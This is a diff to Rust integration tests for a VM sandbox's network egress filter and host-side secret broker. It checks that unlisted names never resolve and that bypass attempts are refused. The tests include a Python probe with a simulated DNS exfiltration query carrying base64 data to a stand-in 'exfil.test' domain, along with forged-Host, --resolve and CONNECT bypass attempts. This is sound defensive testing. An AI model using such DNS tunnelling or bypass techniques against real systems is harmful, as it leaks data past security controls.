@@ -39,6 +39,33 @@ fn host_network() -> std::sync::MutexGuard<'static, ()> {
     HOST_NETWORK.lock().unwrap_or_else(|e| e.into_inner())
 }
 
+/// A guest's own DNS queries (Python, no resolver library): A for
+/// `web.test` and `other.test` and TXT for a name that would carry data,
+/// over UDP, then A for `other.test` over TCP, to the first name server of
+/// its `/etc/resolv.conf`; prints each answer's response code (and over
+/// UDP its count of answers).
+const DNS_PROBE: &str = r#"
+import socket, struct
+def query(name, kind):
+    labels = b"".join(bytes([len(l)]) + l.encode() for l in name.split("."))
+    return struct.pack(">HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", kind, 1)
+server = [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")][0]
+out = []
+for name, kind in [("web.test", 1), ("other.test", 1), ("c2VjcmV0.exfil.test", 16)]:
+    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    u.settimeout(10)
+    u.sendto(query(name, kind), (server, 53))
+    a = u.recv(4096)
+    out.append("%s/udp:%d:%d" % (name, a[3] & 15, struct.unpack(">H", a[6:8])[0]))
+t = socket.create_connection((server, 53), timeout=10)
+m = query("other.test", 1)
+t.sendall(struct.pack(">H", len(m)) + m)
+n = struct.unpack(">H", t.recv(2))[0]
+a = t.recv(n)
+out.append("other.test/tcp:%d" % (a[3] & 15))
+print(" ".join(out))
+"#;
+
 #[test]
 fn the_guest_reaches_the_internet_but_not_the_host() {
     let _net = host_network();
@@ -259,20 +286,44 @@ fn the_guest_reaches_the_internet_but_not_the_host() {
         assert_eq!(body, "hello from the internet");
         let body = sh(&s.vm, "curl -sS -m 20 -k https://web.test/").await;
         assert!(body.contains("Host: web.test"), "{body}");
+        // The guest's lookups are answered by the same lists: another name
+        // does not resolve (NXDOMAIN at once, over UDP and TCP, and for any
+        // type of record: it is never asked upstream, so no name carries
+        // data out), the allowed one does.
+        assert_eq!(
+            sh(&s.vm, &format!("python3 -c '{DNS_PROBE}'")).await,
+            "web.test/udp:0:1 other.test/udp:3:0 c2VjcmV0.exfil.test/udp:3:0 other.test/tcp:3"
+        );
+        assert_eq!(
+            code("curl -sS -m 20 http://other.test/hello.txt".into()).await,
+            Some(6),
+            "another name's lookup"
+        );
+        let lookup = run(&s.vm, req("getent hosts other.test web.test")).await;
+        assert_eq!(lookup.result.exit_code, Some(2), "getent: not found");
+        let found = String::from_utf8_lossy(&lookup.stdout);
+        assert!(
+            found.starts_with(INTERNET) && found.contains("web.test"),
+            "{found}"
+        );
         // Refused at once (a reset: curl's 56 or 52 over HTTP, 35 over
-        // TLS), never a timeout (28): another name, the allowed host's
-        // address given directly, a forged Host under another server name,
-        // a CONNECT through an allowed name, and a port the proxy does not
-        // look at (8080, by the address lists alone).
+        // TLS), never a timeout (28), with the name given its address
+        // (curl's `--resolve`, as a guest that skips DNS would): another
+        // name, the allowed host's address given directly, a forged Host
+        // under another server name, a CONNECT through an allowed name,
+        // and a port the proxy does not look at (8080, by the address
+        // lists alone).
         let reset = [Some(52), Some(56), Some(35)];
+        let other =
+            format!("--resolve other.test:80:{INTERNET} --resolve other.test:443:{INTERNET}");
         for (what, command) in [
             (
                 "another name",
-                "curl -sS -m 20 http://other.test/hello.txt".to_string(),
+                format!("curl -sS -m 20 {other} http://other.test/hello.txt"),
             ),
             (
                 "another name over TLS",
-                "curl -sS -m 20 -k https://other.test/".into(),
+                format!("curl -sS -m 20 {other} -k https://other.test/"),
             ),
             (
                 "an address",
@@ -284,7 +335,7 @@ fn the_guest_reaches_the_internet_but_not_the_host() {
             ),
             (
                 "a forged Host",
-                "curl -sS -m 20 -k -H 'Host: web.test' https://other.test/".into(),
+                format!("curl -sS -m 20 {other} -k -H 'Host: web.test' https://other.test/"),
             ),
             (
                 "a CONNECT through an allowed name",
@@ -299,13 +350,21 @@ fn the_guest_reaches_the_internet_but_not_the_host() {
             Some(7)
         );
         let refused = s.manager.egress_refused(&s.vm.record.id);
-        assert!(refused >= 6, "the proxy counted {refused} refusals");
-        // A denied name: that name refused, others through.
+        assert!(refused >= 10, "the proxy counted {refused} refusals");
+        // A denied name: that name refused (its lookup, and its connection
+        // under its address), others through.
         s.manager
             .set_egress(&s.vm.record.id, &s.vm.agent, lists(&[], &["web.test"]))
             .await
             .unwrap();
-        assert!(reset.contains(&code("curl -sS -m 20 http://web.test/hello.txt".into()).await));
+        assert_eq!(
+            code("curl -sS -m 20 http://web.test/hello.txt".into()).await,
+            Some(6)
+        );
+        let web = format!("--resolve web.test:80:{INTERNET}");
+        assert!(
+            reset.contains(&code(format!("curl -sS -m 20 {web} http://web.test/hello.txt")).await)
+        );
         let body = sh(&s.vm, "curl -sS -m 20 http://other.test/hello.txt").await;
         assert_eq!(body, "hello from the internet");
         s.manager
@@ -832,7 +891,7 @@ const GOT_THE_VALUE: &str = "Authorization: Bearer <the secret>";
 /// host only, after verifying that host's server; the value is in no
 /// memory of the VM's QEMU, nor on its disk, nor in its record.
 async fn secrets_are_brokered_on_the_host(s: &sandpit_vmtest::Shared) {
-    use sandpit_runtime::{Broker, BrokerCa, BrokeredSecret, Sensitive};
+    use sandpit_runtime::{Broker, BrokerCa, BrokeredSecret, HeaderRule, Sensitive};
     let id = s.vm.record.id.clone();
     let secret = |name: &str, hosts: &[&str], header: &str, format: &str| BrokeredSecret {
         name: name.into(),
@@ -855,13 +914,14 @@ async fn secrets_are_brokered_on_the_host(s: &sandpit_vmtest::Shared) {
             ),
             secret("BAD_HOST", &["bad.test"], "Authorization", "Bearer {value}"),
         ],
+        headers: vec![],
     };
     let (ph, value) = (format!("{PLACEHOLDER}9"), format!("{SECRET_VALUE}9"));
     s.manager
         .set_egress(
             &id,
             &s.vm.agent,
-            Egress::open().with_broker(broker).unwrap(),
+            Egress::open().with_broker(broker.clone()).unwrap(),
         )
         .await
         .unwrap();
@@ -969,6 +1029,40 @@ async fn secrets_are_brokered_on_the_host(s: &sandpit_vmtest::Shared) {
         "curl exited {got:?}"
     );
     assert_eq!(s.manager.egress_refused(&id), before + 1);
+
+    // A header rule (E2B's network rules): its header set on the host's
+    // requests, the guest's own of that name replaced; no placeholder in
+    // the guest at all. Another host's requests keep what the guest sent.
+    let with_rule = Broker {
+        headers: vec![HeaderRule {
+            hosts: vec!["web.test".into()],
+            header: "X-Api-Key".into(),
+            value: Sensitive::new(value.clone()),
+            secrets: vec!["my-key".into()],
+        }],
+        ..broker.clone()
+    };
+    s.manager
+        .set_egress(
+            &id,
+            &s.vm.agent,
+            Egress::open().with_broker(with_rule).unwrap(),
+        )
+        .await
+        .unwrap();
+    let seen = sh(
+        &s.vm,
+        "curl -sS -m 20 -H 'X-Api-Key: mine' https://web.test/echo",
+    )
+    .await;
+    assert!(seen.contains("X-Api-Key: <the secret>"), "{seen}");
+    assert!(!seen.contains("mine"), "{seen}");
+    let seen = sh(
+        &s.vm,
+        "curl -sS -m 20 -k -H 'X-Api-Key: mine' https://other.test/echo",
+    )
+    .await;
+    assert!(seen.contains("X-Api-Key: mine"), "{seen}");
 
     // Nowhere in the VM: its QEMU's memory (the guest's RAM with it; a
     // file in the guest's /dev/shm proves the scan sees guest memory), its
